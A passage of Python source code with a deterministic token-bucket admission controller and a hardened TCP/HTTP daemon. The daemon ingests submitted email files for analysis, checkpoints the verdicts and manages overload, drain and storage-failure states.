:mod:`repro.serve.server`) rather than shedding.  Blocking delays
arrivals without reordering them, so backpressure is invisible to this
controller and determinism holds under any load.

Under 2x overload — offered work per tick at twice the configured
``global_rate`` — the steady state sheds half of the offered stream,
each shed answered with ``overloaded`` and a ``retry_after_submissions``
hint derived from the refill rate.
"""

from __future__ import annotations

from dataclasses import dataclass

from repro._budget import DEFAULT_WORK_LIMIT

#: Reason strings on an :class:`AdmissionDecision` (machine-readable).
ADMITTED = "admitted"
SHED_GLOBAL = "global-admission-budget"
SHED_REPORTER = "reporter-admission-budget"

#: Reason on a connection-level ``busy`` refusal: the daemon's
#: concurrent-session cap is full.  Emitted by the accept loop *before*
#: a session exists, so a busy refusal never ticks the admission clock
#: — floods cannot perturb the deterministic shed set of admitted
#: traffic.
REFUSED_BUSY = "session-limit"


@dataclass(frozen=True)
class AdmissionConfig:
    """Budget knobs, denominated in PR-5 work units.

    ``None`` rates/bursts resolve to "never shed" defaults (rate =
    ``cost`` per tick: every arrival refills exactly one message's
    worth).  Operators express limits on the CLI in messages-per-
    submission and the CLI multiplies by ``cost``.
    """

    #: Work units one admitted message may consume (PR-5 budget).
    cost: int = DEFAULT_WORK_LIMIT
    #: Global bucket: refill per arrival tick / capacity.
    global_rate: int | None = None
    global_burst: int | None = None
    #: Per-reporter buckets: refill per *global* tick / capacity, so a
    #: reporter's sustainable share is ``reporter_rate / cost`` of the
    #: total stream regardless of how hard it floods.
    reporter_rate: int | None = None
    reporter_burst: int | None = None

    def resolved(self) -> tuple[int, int, int, int, int]:
        cost = max(1, int(self.cost))
        global_rate = cost if self.global_rate is None else int(self.global_rate)
        global_burst = 64 * cost if self.global_burst is None else int(self.global_burst)
        reporter_rate = cost if self.reporter_rate is None else int(self.reporter_rate)
        reporter_burst = 16 * cost if self.reporter_burst is None else int(self.reporter_burst)
        return cost, global_rate, global_burst, reporter_rate, reporter_burst


@dataclass(frozen=True)
class AdmissionDecision:
    """The outcome of one arrival."""

    admitted: bool
    reason: str
    #: Arrival tick this decision happened on (0-based).
    tick: int
    #: For sheds: full ticks until the constraining bucket could afford
    #: one message again, assuming no competing arrivals.  None when the
    #: rate is zero (the budget can never recover on its own).
    retry_after_submissions: int | None = None


class _Bucket:
    """One integer token bucket on the logical clock."""

    __slots__ = ("tokens", "last_tick")

    def __init__(self, tokens: int, last_tick: int = 0):
        self.tokens = tokens
        self.last_tick = last_tick

    def refill(self, tick: int, rate: int, burst: int) -> None:
        elapsed = tick - self.last_tick
        if elapsed > 0:
            self.tokens = min(burst, self.tokens + rate * elapsed)
        self.last_tick = tick

    def deficit_ticks(self, cost: int, rate: int) -> int | None:
        """Ticks until ``cost`` tokens are available (None if never)."""
        missing = cost - self.tokens
        if missing <= 0:
            return 0
        if rate <= 0:
            return None
        return -(-missing // rate)  # ceil division

    def snapshot(self) -> list[int]:
        return [self.tokens, self.last_tick]


class AdmissionController:
    """Pure-transition admission: one :meth:`admit` call per arrival.

    Not thread-safe by itself — the daemon serializes arrivals under
    its admission lock, which is also what *defines* the arrival order
    the determinism contract speaks about.
    """

    def __init__(self, config: AdmissionConfig | None = None):
        self.config = config or AdmissionConfig()
        (
            self._cost,
            self._global_rate,
            self._global_burst,
            self._reporter_rate,
            self._reporter_burst,
        ) = self.config.resolved()
        self.arrivals = 0
        self._global = _Bucket(self._global_burst)
        self._reporters: dict[str, _Bucket] = {}

    # ------------------------------------------------------------------
    def admit(self, reporter: str) -> AdmissionDecision:
        """Process one arrival; deducts on admit, always advances time."""
        tick = self.arrivals
        self.arrivals += 1
        self._global.refill(tick, self._global_rate, self._global_burst)
        bucket = self._reporters.get(reporter)
        if bucket is None:
            # A reporter's first arrival starts with a full burst.
            bucket = self._reporters[reporter] = _Bucket(self._reporter_burst, tick)
        else:
            bucket.refill(tick, self._reporter_rate, self._reporter_burst)

        if self._global.tokens < self._cost:
            return AdmissionDecision(
                admitted=False,
                reason=SHED_GLOBAL,
                tick=tick,
                retry_after_submissions=self._global.deficit_ticks(
                    self._cost, self._global_rate
                ),
            )
        if bucket.tokens < self._cost:
            return AdmissionDecision(
                admitted=False,
                reason=SHED_REPORTER,
                tick=tick,
                retry_after_submissions=bucket.deficit_ticks(
                    self._cost, self._reporter_rate
                ),
            )
        self._global.tokens -= self._cost
        bucket.tokens -= self._cost
        return AdmissionDecision(admitted=True, reason=ADMITTED, tick=tick)

    # ------------------------------------------------------------------
    # Snapshot / restore (manifest persistence across daemon restarts)
    # ------------------------------------------------------------------
    def snapshot(self) -> dict:
        """Integer-exact state for the manifest's ``service.admission``."""
        return {
            "arrivals": self.arrivals,
            "global": self._global.snapshot(),
            "reporters": {
                name: bucket.snapshot()
                for name, bucket in sorted(self._reporters.items())
            },
        }

    def restore(self, data: dict) -> None:
        """Adopt a :meth:`snapshot` so replayed remainders shed identically."""
        self.arrivals = int(data.get("arrivals", 0))
        tokens, last_tick = data.get("global", [self._global_burst, 0])
        self._global = _Bucket(int(tokens), int(last_tick))
        self._reporters = {
            name: _Bucket(int(state[0]), int(state[1]))
            for name, state in (data.get("reporters") or {}).items()
        }
