"""The always-on analysis daemon behind ``repro serve``.

One process, five moving parts:

- **Sessions** — one thread per connection reads line-delimited JSON
  submissions (:mod:`repro.serve.protocol`).  The same port answers
  HTTP ``GET /stats`` / ``GET /healthz`` for monitoring.  The ingress
  is hardened against hostile clients (see DESIGN.md §11): a session
  cap refused with explicit ``busy`` lines, per-line read deadlines, a
  progress-based idle reaper, a malformed-line strike budget, and
  bounded verdict sends with dead-peer detection — all exercised by
  :mod:`repro.serve.netchaos`.
- **Admission** — a single lock serializes arrivals, which *defines*
  the arrival order; the deterministic controller
  (:mod:`repro.serve.admission`) sheds with explicit ``overloaded``
  responses, and accepted submissions get the next message index.
- **Fair scheduling + micro-batching** — accepted submissions queue
  per reporter (:mod:`repro.serve.scheduler`); a dispatcher thread
  drains round-robin micro-batches into the persistent engine
  (:mod:`repro.serve.engine`).
- **Durability** — every verdict appends to the PR-5 CRC checkpoint
  before it streams back to the submitter; rolling compaction rewrites
  the JSONL once it grows past a threshold, so a month-long daemon
  stays bounded.  The manifest carries ``status: serving`` plus a
  ``service`` block (counters, next index, admission snapshot).
- **Drain** — SIGTERM stops intake (new submissions are ``rejected``
  with reason ``draining``), flushes every accepted submission through
  analysis and checkpoint, writes ``status: stopped`` with the exact
  admission snapshot, and exits 0.  A restarted daemon restores that
  snapshot, so replaying the remaining transcript produces records
  byte-identical to an uninterrupted daemon — and to a batch run over
  the same messages, because records depend only on (seed material,
  admission index).

Backpressure vs shedding: when the hardware falls behind, a session
stops *reading* once the accepted backlog passes ``backlog_high_water``
(TCP pushes back on the submitter) and resumes below the low-water
mark.  Blocking delays arrivals without reordering or dropping them,
so the deterministic shed set is unaffected by machine speed.
"""

from __future__ import annotations

import base64
import collections
import json
import os
import pathlib
import socket
import threading
import time
from dataclasses import dataclass, field

from repro.runner.checkpoint import CheckpointStore, RunManifest
from repro.runner.executor import RunnerConfig
from repro.runner.retry import RetryPolicy
from repro.runner.stats import RunningStats
from repro.serve.admission import REFUSED_BUSY, AdmissionConfig, AdmissionController
from repro.serve.engine import ServeJob, build_engine
from repro.serve.protocol import (
    HTTP_ALLOWED_METHODS,
    MAX_LINE_BYTES,
    IdleTimeout,
    LineChannel,
    LineTooLong,
    ProtocolError,
    ReadDeadlineExceeded,
    decode_line,
    encode_line,
    encode_verdict_line,
    http_request_parts,
    http_response,
    looks_like_http,
    send_bounded,
)
from repro.serve.scheduler import FairScheduler
from repro.storage.durable import (
    DEFAULT_DURABILITY,
    durable_write_text,
    install_storage_faults,
    retrying,
)
from repro.storage.faults import StorageFaultEngine, storage_fault_profile

#: Name of the discovery file written into the checkpoint directory so
#: clients (and tests) can find the bound port of a daemon they spawned.
ENDPOINT_NAME = "endpoint.json"


@dataclass
class ServeConfig:
    """Everything ``repro serve`` tunes."""

    host: str = "127.0.0.1"
    port: int = 0  # 0 = ephemeral; the bound port lands in endpoint.json
    seed: int = 2024
    scale: float = 0.15
    jobs: int = 1
    executor: str = "auto"  # 'auto' | 'thread' | 'process'
    batch_size: int = 8
    admission: AdmissionConfig = field(default_factory=AdmissionConfig)
    #: Accepted-but-unfinished submissions above which sessions stop
    #: reading (flow control); reading resumes at the low-water mark.
    backlog_high_water: int = 256
    backlog_low_water: int = 64
    #: Compact records.jsonl once it exceeds this many lines (0 = never).
    compact_lines: int = 100_000
    #: Keep only the newest N message indices when compacting (None =
    #: dedupe only).  Verdicts were already streamed to submitters, so
    #: the live checkpoint may be a rolling window.
    retain: int | None = None
    #: Per-message work budget (CLI ``--budget`` semantics).
    budget: int | None = None
    #: Guard-limit overrides as ``(key, value)`` pairs (``--guard-limit``).
    guard_limits: tuple[tuple[str, int], ...] | None = None
    max_line_bytes: int = MAX_LINE_BYTES
    #: Rewrite the manifest every N completions (and always at drain).
    manifest_every: int = 50
    #: Verdict latencies kept for the /stats percentiles.
    latency_window: int = 2048
    #: fsync policy for the checkpoint (``--durability``).
    durability: str = DEFAULT_DURABILITY
    #: Storage fault weather (``--storage-faults`` / ``--storage-fault-seed``).
    storage_faults: str = "off"
    storage_fault_seed: int = 0
    #: Consecutive failed verdict appends (each already bounded-retried)
    #: before the health state machine drops from ``degraded`` to
    #: ``readonly`` and new submissions shed.
    readonly_after: int = 3
    # ------------------------------------------------------------------
    # Ingress hardening (the connection lifecycle; see DESIGN.md §11).
    # ------------------------------------------------------------------
    #: Hard cap on concurrently open ingress connections.  Excess
    #: connections are refused with an explicit machine-readable
    #: ``busy`` line (never ticking the admission clock) and closed
    #: from the accept loop, so session threads stay bounded by this.
    max_sessions: int = 64
    #: Wall-clock budget to *complete* one protocol line once its first
    #: byte arrived (slowloris guard; 0 disables).
    line_deadline: float = 30.0
    #: Quiet seconds between lines before an idle session is reaped.
    #: Progress-based: a session still owed verdicts is never reaped,
    #: and the clock restarts when the last verdict streams (0 disables).
    idle_timeout: float = 300.0
    #: Wall-clock budget for streaming one response line to a slow
    #: peer before the socket is declared dead.  The verdict is already
    #: durable in the checkpoint; only the doomed write is abandoned.
    send_deadline: float = 30.0
    #: Malformed protocol lines (undecodable JSON, missing/unknown op)
    #: one session may send before a clean close.
    strike_budget: int = 8
    #: listen(2) backlog for the ingress socket.
    listen_backlog: int = 64
    #: Seconds a ``bye`` waits for outstanding verdicts before closing
    #: anyway (the drain path for one polite session).
    flush_timeout: float = 300.0


class _Session:
    """One live client connection (response side)."""

    _next_id = 0
    _id_lock = threading.Lock()

    def __init__(
        self,
        conn: socket.socket,
        send_deadline: float = 30.0,
        on_dead_peer=None,
    ):
        with _Session._id_lock:
            _Session._next_id += 1
            self.session_id = _Session._next_id
        self.conn = conn
        self.send_deadline = send_deadline
        self._on_dead_peer = on_dead_peer
        self._write_lock = threading.Lock()
        self.alive = True
        #: Accepted message indices whose verdict has not streamed yet
        #: (what ``bye`` waits for, and what defers the idle reaper).
        self.outstanding: set[int] = set()
        self.flushed = threading.Condition()

    def send(self, payload: dict) -> bool:
        return self.send_raw(encode_line(payload))

    def send_raw(self, data: bytes) -> bool:
        """Stream pre-encoded line bytes (the verdict splice path).

        Bounded: a peer that stops reading trips the send deadline and
        is declared dead rather than pinning an engine callback thread.
        Only the socket write is abandoned — the verdict is already
        durable in the checkpoint by the time this is called.
        """
        with self._write_lock:
            if not self.alive:
                return False
            if send_bounded(self.conn, data, self.send_deadline):
                return True
            self.alive = False
            # Shut down (not close) so the reader thread's select wakes
            # and runs the session's normal cleanup path; closing here
            # would race the reader on the fd.
            try:
                self.conn.shutdown(socket.SHUT_RDWR)
            except OSError:
                pass
        if self._on_dead_peer is not None:
            self._on_dead_peer()
        return False

    def has_outstanding(self) -> bool:
        """True while verdicts are still owed (defers the idle reaper)."""
        with self.flushed:
            return bool(self.outstanding)

    def finish(self, index: int) -> None:
        with self.flushed:
            self.outstanding.discard(index)
            self.flushed.notify_all()

    def close(self) -> None:
        with self._write_lock:
            self.alive = False
            try:
                self.conn.shutdown(socket.SHUT_RDWR)
            except OSError:
                pass
            try:
                self.conn.close()
            except OSError:
                pass
        with self.flushed:
            self.flushed.notify_all()


class ServeDaemon:
    """The long-lived analysis service.  ``run()`` blocks until drained."""

    def __init__(self, config: ServeConfig, checkpoint_dir: str | pathlib.Path):
        self.config = config
        self.directory = pathlib.Path(checkpoint_dir)
        self.checkpoint = CheckpointStore(self.directory, durability=config.durability)
        self.admission = AdmissionController(config.admission)
        self.scheduler = FairScheduler()
        self.retry_policy = RetryPolicy()
        self.stats = RunningStats()
        #: Serializes arrivals; holding it defines the arrival order the
        #: determinism contract is stated in.
        self._admission_lock = threading.Lock()
        #: Guards counters + checkpoint bookkeeping on the verdict path.
        self._completion = threading.Condition()
        self._sessions: dict[int, _Session] = {}
        self._sessions_lock = threading.Lock()
        #: Connections currently owned by a session thread (includes the
        #: HTTP-sniff window before a session registers).  Guarded by
        #: _sessions_lock; the accept loop refuses above max_sessions,
        #: so session threads are bounded by the cap.
        self._open_connections = 0
        # Ingress telemetry (surfaced in /stats and /healthz only —
        # never the manifest, so `--client-faults off` runs stay
        # byte-identical to pre-hardening daemons).
        self._ingress_lock = threading.Lock()
        self._ingress: collections.Counter = collections.Counter()
        self._shutdown = threading.Event()
        self._drained = threading.Event()
        self._draining = False
        self._stop_accepting = False
        self._fatal: str | None = None
        self.started_at = time.monotonic()
        self.port: int | None = None
        # Cumulative service counters (restored across restarts).
        self.next_index = 0
        self.submitted = 0
        self.accepted = 0
        self.shed = 0
        self.rejected = 0
        self.completed = 0
        self.failed = 0
        self.compactions = 0
        self.checkpoint_lines = 0
        # Storage health state machine: ok -> degraded (an append failed
        # past its bounded retry; the verdict bytes are buffered, not
        # lost) -> readonly (failures persist; new submissions shed with
        # explicit responses) -> ok again once an append lands and the
        # buffer drains.  Guarded by _storage_lock (never taken while
        # holding it: _completion may be taken *around* it, not under).
        self._storage_lock = threading.Lock()
        self.storage_health = "ok"  # 'ok' | 'degraded' | 'readonly'
        #: Verdict wire lines accepted but not yet durable (oldest first).
        self._pending_wires: collections.deque[bytes] = collections.deque()
        self._append_streak = 0  # consecutive failed appends
        self.append_errors = 0  # cumulative, for /stats
        self.storage_shed = 0
        self.storage_recoveries = 0
        self.last_storage_error: str | None = None
        self.reporters: dict[str, collections.Counter] = {}
        self._latencies: collections.deque = collections.deque(
            maxlen=max(1, config.latency_window)
        )
        self._engine = None
        self._listener: socket.socket | None = None
        self._threads: list[threading.Thread] = []

    # ------------------------------------------------------------------
    # Lifecycle
    # ------------------------------------------------------------------
    def start(self) -> None:
        """Restore state, build the engine, bind, and go live."""
        if self.config.storage_faults != "off":
            install_storage_faults(
                StorageFaultEngine(
                    storage_fault_profile(self.config.storage_faults),
                    seed=self.config.storage_fault_seed,
                )
            )
        self._restore()
        self._build_engine()
        listener = socket.create_server(
            (self.config.host, self.config.port),
            backlog=max(1, self.config.listen_backlog),
            reuse_port=False,
        )
        self._listener = listener
        self.port = listener.getsockname()[1]
        self._write_endpoint()
        self._write_manifest("serving")
        acceptor = threading.Thread(
            target=self._accept_loop, name="repro-serve-accept", daemon=True
        )
        dispatcher = threading.Thread(
            target=self._dispatch_loop, name="repro-serve-dispatch", daemon=True
        )
        self._threads = [acceptor, dispatcher]
        acceptor.start()
        dispatcher.start()

    def run(self) -> int:
        """start(), block until a shutdown request, drain, exit code."""
        self.start()
        return self.wait()

    def wait(self) -> int:
        """Block until a shutdown request, then drain; the exit code."""
        self._shutdown.wait()
        self._drain()
        return 1 if self._fatal else 0

    def request_shutdown(self) -> None:
        """Signal-handler safe: ask the daemon to drain and stop."""
        self._shutdown.set()

    # ------------------------------------------------------------------
    def _restore(self) -> None:
        """Adopt a prior daemon's manifest + checkpoint, if any."""
        try:
            manifest = self.checkpoint.read_manifest()
        except ValueError as error:
            raise RuntimeError(f"unreadable manifest under {self.directory}: {error}")
        scan = self.checkpoint.scan()
        self.checkpoint_lines = scan.total_lines
        durable = scan.indices
        if manifest is not None:
            if not manifest.is_service:
                raise RuntimeError(
                    f"{self.directory} holds a batch checkpoint "
                    f"(status {manifest.status!r}); `repro serve` cannot adopt it — "
                    f"use `repro resume` for batch runs or point --checkpoint at "
                    f"a fresh directory"
                )
            if (manifest.seed, manifest.scale) != (self.config.seed, self.config.scale):
                raise RuntimeError(
                    f"checkpoint belongs to seed={manifest.seed} scale={manifest.scale}; "
                    f"restart with matching --seed/--scale or the replayed transcript "
                    f"cannot be byte-identical"
                )
            service = manifest.service or {}
            self.stats = RunningStats.from_dict(manifest.stats)
            self.next_index = int(service.get("next_index", 0))
            self.submitted = int(service.get("submitted", 0))
            self.accepted = int(service.get("accepted", 0))
            self.shed = int(service.get("shed", 0))
            self.rejected = int(service.get("rejected", 0))
            self.completed = int(service.get("completed", 0))
            self.failed = int(service.get("failed", 0))
            self.compactions = int(service.get("compactions", 0))
            for name, counters in (service.get("reporters") or {}).items():
                self.reporters[name] = collections.Counter(
                    {key: int(value) for key, value in counters.items() if key != "queued"}
                )
            if service.get("admission"):
                self.admission.restore(service["admission"])
        # A daemon killed without a drain (kill -9) leaves the manifest
        # stale relative to records.jsonl: trust the records for index
        # allocation so no index is ever reused.
        if durable:
            self.next_index = max(self.next_index, max(durable) + 1)
            floor = len(durable)
            if self.completed < floor:
                self.completed = floor
            if self.accepted < self.completed + self.failed:
                self.accepted = self.completed + self.failed
            if self.submitted < self.accepted + self.shed + self.rejected:
                self.submitted = self.accepted + self.shed + self.rejected

    def _build_engine(self) -> None:
        from repro.core import CrawlerBox
        from repro.core.pipeline import build_pipeline_config
        from repro.dataset import CorpusGenerator

        config = self.config
        runner_config = RunnerConfig(
            seed=config.seed,
            scale=config.scale,
            budget=config.budget,
            guard_limits=config.guard_limits,
            corpus_prefix=0,  # workers need the world, not the corpus
        )
        executor = config.executor
        if executor == "auto":
            executor = "process" if config.jobs > 1 else "thread"
        box_factory = None
        if executor == "thread":
            corpus = CorpusGenerator(seed=config.seed, scale=config.scale).generate()
            pipeline_config = build_pipeline_config(config.budget, config.guard_limits)

            def box_factory(worker_id: int):
                return CrawlerBox.for_world(corpus.world, config=pipeline_config)

        self._engine = build_engine(
            executor,
            config.jobs,
            self._on_result,
            box_factory=box_factory,
            config=runner_config,
            batch_size=config.batch_size,
            on_fatal=self._on_fatal,
            on_stats=self._on_stats,
        )

    def _write_endpoint(self) -> None:
        payload = json.dumps(
            {"host": self.config.host, "port": self.port, "pid": os.getpid()},
            indent=2,
            sort_keys=True,
        )
        retrying(
            lambda: durable_write_text(
                self.directory / ENDPOINT_NAME,
                payload,
                durability=self.config.durability,
            )
        )

    def _on_fatal(self, reason: str) -> None:
        self._fatal = reason
        self.request_shutdown()

    # ------------------------------------------------------------------
    # Intake: sessions
    # ------------------------------------------------------------------
    def _accept_loop(self) -> None:
        while True:
            try:
                conn, _addr = self._listener.accept()
            except OSError:
                return  # listener closed: drain in progress
            if self._stop_accepting:
                # The drain's wake-up poke (closing a listener does not
                # reliably interrupt a blocked accept()).
                try:
                    conn.close()
                except OSError:
                    pass
                return
            with self._sessions_lock:
                if self._open_connections >= max(1, self.config.max_sessions):
                    over_cap = True
                else:
                    over_cap = False
                    self._open_connections += 1
            if over_cap:
                # Refuse inline — no thread is ever spawned for an
                # over-cap connection, which is what bounds the daemon's
                # thread count by the session cap.
                self._refuse_busy(conn)
                continue
            self._count_ingress("sessions_total")
            threading.Thread(
                target=self._serve_connection,
                args=(conn,),
                name="repro-serve-session",
                daemon=True,
            ).start()

    def _refuse_busy(self, conn: socket.socket) -> None:
        """Explicit machine-readable refusal of an over-cap connection.

        Never ticks the admission clock: the connection carried no
        submission, so the deterministic admission transcript — and the
        records of every admitted message — is unaffected by floods.
        """
        self._count_ingress("busy_refused")
        line = encode_line(
            {
                "op": "busy",
                "reason": REFUSED_BUSY,
                "detail": f"{self.config.max_sessions} concurrent sessions are "
                f"already open; reconnect after one closes",
            }
        )
        try:
            conn.setblocking(False)
            send_bounded(conn, line, timeout=1.0)
        except OSError:
            pass
        finally:
            try:
                conn.close()
            except OSError:
                pass

    def _count_ingress(self, key: str, amount: int = 1) -> None:
        with self._ingress_lock:
            self._ingress[key] += amount

    def _release_connection(self) -> None:
        with self._sessions_lock:
            self._open_connections = max(0, self._open_connections - 1)

    def _serve_connection(self, conn: socket.socket) -> None:
        session = _Session(
            conn,
            send_deadline=self.config.send_deadline,
            on_dead_peer=lambda: self._count_ingress("dead_peers"),
        )
        channel = LineChannel(conn, limit=self.config.max_line_bytes)
        try:
            line = self._read_session_line(channel, session)
            if line is None:
                return
            if looks_like_http(line):
                self._serve_http(conn, line)
                return
            with self._sessions_lock:
                self._sessions[session.session_id] = session
            strikes = max(1, self.config.strike_budget)
            while line is not None:
                try:
                    payload = decode_line(line)
                except ProtocolError as error:
                    self._count_ingress("malformed_lines")
                    strikes -= 1
                    if not self._strike(session, strikes, str(error)):
                        return
                    line = self._read_session_line(channel, session)
                    continue
                verdict = self._handle_op(session, payload)
                if verdict == "close":
                    return
                if verdict == "strike":
                    self._count_ingress("malformed_lines")
                    strikes -= 1
                    reason = f"unknown op {payload['op']!r}"
                    if not self._strike(session, strikes, reason):
                        return
                self._backpressure_wait()
                line = self._read_session_line(channel, session)
        except OSError:
            pass
        finally:
            with self._sessions_lock:
                self._sessions.pop(session.session_id, None)
            session.close()
            self._release_connection()

    def _read_session_line(self, channel: LineChannel, session: _Session) -> bytes | None:
        """One deadline-guarded line; ``None`` means close the session.

        Every reaping is explicit: the peer gets a machine-readable
        ``error`` naming why before the close (best-effort — a reaped
        peer is often not reading anyway).
        """
        config = self.config
        try:
            line = channel.read_line(
                line_deadline=config.line_deadline or None,
                idle_timeout=config.idle_timeout or None,
                defer_idle=session.has_outstanding,
            )
        except LineTooLong as error:
            # No resync is possible mid-line: error + close.
            self._count_ingress("oversized_lines")
            session.send({"op": "error", "reason": str(error)})
            return None
        except ReadDeadlineExceeded as error:
            self._count_ingress("line_deadline_reaped")
            session.send({"op": "error", "reason": f"read deadline: {error}"})
            return None
        except IdleTimeout as error:
            self._count_ingress("idle_reaped")
            session.send({"op": "error", "reason": f"idle timeout: {error}"})
            return None
        if line is None and channel.pending:
            self._count_ingress("mid_line_disconnects")
        return line

    def _strike(self, session: _Session, strikes_remaining: int, reason: str) -> bool:
        """Answer one malformed line; False when the budget is spent."""
        if strikes_remaining <= 0:
            self._count_ingress("strike_closes")
            session.send(
                {
                    "op": "error",
                    "reason": f"strike budget exhausted: {reason}",
                    "strikes_remaining": 0,
                }
            )
            return False
        session.send(
            {"op": "error", "reason": reason, "strikes_remaining": strikes_remaining}
        )
        return True

    def _serve_http(self, conn: socket.socket, request_line: bytes) -> None:
        self._count_ingress("http_requests")
        method, path = http_request_parts(request_line)
        if method not in HTTP_ALLOWED_METHODS:
            response = http_response(
                405,
                {"error": f"method {method} not allowed; use GET or HEAD"},
                headers={"Allow": ", ".join(HTTP_ALLOWED_METHODS)},
            )
        elif path == "/stats":
            response = http_response(200, self.stats_payload())
        elif path == "/healthz":
            # readonly is 503 like draining — load balancers should
            # route elsewhere — but the payload still answers with the
            # full storage diagnosis either way.
            status = 503 if (self._draining or self.storage_health == "readonly") else 200
            response = http_response(status, self.health_payload())
        else:
            response = http_response(404, {"error": f"no such endpoint {path!r}"})
        if method == "HEAD":
            response = response.split(b"\r\n\r\n", 1)[0] + b"\r\n\r\n"
        send_bounded(conn, response, self.config.send_deadline)
        try:
            conn.close()
        except OSError:
            pass

    # ------------------------------------------------------------------
    def _handle_op(self, session: _Session, payload: dict) -> str:
        """Dispatch one message -> ``'ok'`` | ``'close'`` | ``'strike'``."""
        op = payload["op"]
        if op == "submit":
            self._handle_submit(session, payload)
            return "ok"
        if op == "ping":
            session.send({"op": "pong", "draining": self._draining})
            return "ok"
        if op == "stats":
            session.send({"op": "stats", "stats": self.stats_payload()})
            return "ok"
        if op == "bye":
            self._flush_session(session)
            session.send({"op": "goodbye"})
            return "close"
        return "strike"

    def _handle_submit(self, session: _Session, payload: dict) -> None:
        from repro.mail.ingest import IngestError, ingest_eml_bytes

        client_id = str(payload.get("id") or "")
        reporter = str(payload.get("reporter") or "anonymous")

        def reject(reason: str) -> None:
            with self._completion:
                self.submitted += 1
                self.rejected += 1
                self._reporter(reporter)["submitted"] += 1
                self._reporter(reporter)["rejected"] += 1
            session.send({"op": "rejected", "id": client_id, "reason": reason})

        if self._draining:
            reject("draining: the daemon is shutting down; resubmit after restart")
            return
        raw_b64 = payload.get("eml")
        if not isinstance(raw_b64, str):
            reject("missing 'eml' (base64 RFC-822 bytes)")
            return
        try:
            raw = base64.b64decode(raw_b64.encode("ascii"), validate=True)
        except (ValueError, UnicodeEncodeError):
            reject("eml is not valid base64")
            return
        try:
            message = ingest_eml_bytes(raw)
        except IngestError as error:
            reject(f"ingest-error: {error}")
            return

        # Readonly storage: the disk refused enough appends in a row
        # that accepting more work would only grow the unpersistable
        # backlog.  Each arrival first probes the disk (draining the
        # pending buffer recovers the daemon the moment space returns),
        # then — if still readonly — sheds with an explicit machine-
        # readable response.  These sheds never tick the admission
        # clock, so the deterministic shed set of the admission
        # transcript is unaffected (like ``draining`` rejects).
        if self.storage_health == "readonly":
            self._probe_storage_recovery()
        if self.storage_health == "readonly":
            with self._completion:
                self.submitted += 1
                self.shed += 1
                self.storage_shed += 1
                self._reporter(reporter)["submitted"] += 1
                self._reporter(reporter)["shed"] += 1
            session.send(
                {
                    "op": "overloaded",
                    "id": client_id,
                    "reason": "readonly: checkpoint storage is failing "
                    f"({self.last_storage_error}); retry once space returns",
                    "retry_after_submissions": None,
                }
            )
            return

        # Arrival: the admission lock defines the arrival order; the
        # draining flag is re-checked under it so a drain boundary is a
        # clean cut in the transcript (rejected submissions never tick
        # the admission clock and are safe to replay after restart).
        with self._admission_lock:
            if self._draining:
                pass  # fall through to the draining reject below
            else:
                decision = self.admission.admit(reporter)
                with self._completion:
                    self.submitted += 1
                    self._reporter(reporter)["submitted"] += 1
                    if decision.admitted:
                        index = self.next_index
                        self.next_index += 1
                        self.accepted += 1
                        self._reporter(reporter)["accepted"] += 1
                    else:
                        self.shed += 1
                        self._reporter(reporter)["shed"] += 1
                if not decision.admitted:
                    session.send(
                        {
                            "op": "overloaded",
                            "id": client_id,
                            "reason": decision.reason,
                            "retry_after_submissions": decision.retry_after_submissions,
                        }
                    )
                    return
                job = ServeJob(
                    index=index,
                    reporter=reporter,
                    client_id=client_id,
                    eml_bytes=raw,
                    message=message,
                    session=session,
                    submitted_at=time.monotonic(),
                )
                with session.flushed:
                    session.outstanding.add(index)
                session.send(
                    {"op": "accepted", "id": client_id, "message_index": index}
                )
                self.scheduler.push(reporter, job)
                return
        reject("draining: the daemon is shutting down; resubmit after restart")

    def _flush_session(self, session: _Session, timeout: float | None = None) -> None:
        """Block a ``bye`` until every accepted verdict streamed back."""
        if timeout is None:
            timeout = self.config.flush_timeout
        deadline = time.monotonic() + timeout
        with session.flushed:
            while session.outstanding and session.alive:
                remaining = deadline - time.monotonic()
                if remaining <= 0:
                    return
                session.flushed.wait(min(0.25, remaining))

    def _backpressure_wait(self) -> None:
        """Flow control: pause reading while the backlog is too deep."""
        high = self.config.backlog_high_water
        if high <= 0:
            return
        low = min(self.config.backlog_low_water, high)
        with self._completion:
            if self._backlog() <= high:
                return
            while not self._draining and self._backlog() > low:
                self._completion.wait(0.25)

    def _backlog(self) -> int:
        return self.accepted - self.completed - self.failed

    def _reporter(self, name: str) -> collections.Counter:
        counter = self.reporters.get(name)
        if counter is None:
            counter = self.reporters[name] = collections.Counter()
        return counter

    # ------------------------------------------------------------------
    # Dispatch + completion
    # ------------------------------------------------------------------
    def _dispatch_loop(self) -> None:
        while True:
            batch = self.scheduler.next_batch(self.config.batch_size, timeout=0.25)
            if batch:
                self._engine.submit(batch)
            elif self.scheduler.closed and not len(self.scheduler):
                return

    def _on_stats(self, shard: RunningStats) -> None:
        """Engine callback: fold one worker-local stats shard."""
        with self._completion:
            self.stats.absorb(shard)

    # ------------------------------------------------------------------
    # Storage health (ok -> degraded -> readonly -> recovered)
    # ------------------------------------------------------------------
    def _append_durable(self, wire: bytes) -> int:
        """Land one verdict line, riding out disk failures.

        Returns how many buffered + fresh lines actually reached the
        checkpoint in this call.  An accepted record is *never*
        dropped: a failed append (already bounded-retried inside the
        store) parks the wire bytes in ``_pending_wires`` — in order —
        and flips the health state machine; every later append attempt
        drains the buffer first, so recovery preserves append order.
        """
        with self._storage_lock:
            appended = self._flush_pending_locked()
            if self._pending_wires:
                self._pending_wires.append(wire)  # still failing: buffer
                return appended
            try:
                self.checkpoint.append_wire(wire)
            except OSError as error:
                self._note_append_failure_locked(error)
                self._pending_wires.append(wire)
                return appended
            self._note_append_success_locked()
            return appended + 1

    def _flush_pending_locked(self) -> int:
        """Drain the not-yet-durable buffer (caller holds _storage_lock)."""
        flushed = 0
        while self._pending_wires:
            try:
                self.checkpoint.append_wire(self._pending_wires[0])
            except OSError as error:
                self._note_append_failure_locked(error)
                break
            self._pending_wires.popleft()
            flushed += 1
            self._note_append_success_locked()
        return flushed

    def _note_append_failure_locked(self, error: OSError) -> None:
        self.append_errors += 1
        self._append_streak += 1
        self.last_storage_error = str(error)
        if self._append_streak >= max(1, self.config.readonly_after):
            self.storage_health = "readonly"
        elif self.storage_health == "ok":
            self.storage_health = "degraded"

    def _note_append_success_locked(self) -> None:
        self._append_streak = 0
        if not self._pending_wires and self.storage_health != "ok":
            self.storage_health = "ok"
            self.storage_recoveries += 1

    def _probe_storage_recovery(self) -> None:
        """Readonly + quiet pipeline = nothing retries the disk; incoming
        traffic probes instead, so the daemon heals when space returns."""
        with self._storage_lock:
            if self._pending_wires:
